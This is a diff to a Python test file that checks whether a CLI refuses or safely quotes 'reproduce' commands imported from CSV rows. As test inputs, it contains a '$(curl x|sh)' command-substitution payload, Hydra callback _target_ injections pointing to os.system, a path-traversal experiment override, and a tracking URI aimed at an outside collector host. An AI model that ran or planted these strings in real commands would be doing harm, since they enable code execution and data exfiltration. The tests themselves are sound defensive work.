@@ -311,7 +311,13 @@ def test_a_command_that_sets_hydras_own_keys_is_refused_by_line(store, tmp_path,
     """The report prints a row's `reproduce` command for anyone to run, and `+hydra.callbacks.x._target_=...` has
     Hydra call any function when it is run (2026-11-29: such a row was imported and its command printed)."""
     quoted = "'+hydra.callbacks.evil._target_=builtins.print'"  # a shell's quotes: Hydra gets the word without
-    for extra in ("+hydra.callbacks.evil._target_=builtins.print", quoted, "hydra/launcher=basic", "--multirun"):
+    foreign = (
+        "+hydra.callbacks.evil._target_=builtins.print", quoted, "hydra/launcher=basic", "--multirun",
+        "+experiment=../../../../tmp/planted",  # any YAML, which can set hydra.callbacks
+        "tracking.uri=http://collector.example:5000",  # the reader's runs, hardware and packages sent elsewhere
+        "data.root=/home", "framework.install=pip_install_this", "model.depth=${oc.env:HOME}",
+    )  # fmt: skip
+    for extra in foreign:
         row = GOOD_ROWS[2] + f",+experiment=pytorch_mps_study model=resnet18 batch_size=4 device=cpu {extra}"
         assert cli.main([str(write_csv(tmp_path / "hydra.csv", [row])), "--experiment", "hydra"]) == 2
         (err,) = capsys.readouterr().err.strip().splitlines()
@@ -322,10 +328,11 @@ def test_a_command_that_sets_hydras_own_keys_is_refused_by_line(store, tmp_path,
 
     # the report's command runs what the row says and nothing else when pasted into a shell
     assert (
-        reproducible("model=mlp tracking.uri='$(curl x|sh)'")
-        == "python src/run.py model=mlp 'tracking.uri=$(curl x|sh)'"
+        reproducible("model=mlp optim.name='$(curl x|sh)'") == "python src/run.py model=mlp 'optim.name=$(curl x|sh)'"
     )
     assert reproducible("model=mlp '+hydra.callbacks.x._target_=os.system'") is None
+    assert reproducible("model=mlp tracking.uri=http://collector.example:5000") is None
+    assert reproducible("+experiment=mlp_depth_study model.depth=5 device=cpu batch_size=32 seed=1") is not None
 
 
 def test_power_says_what_it_covers(imported) -> None:
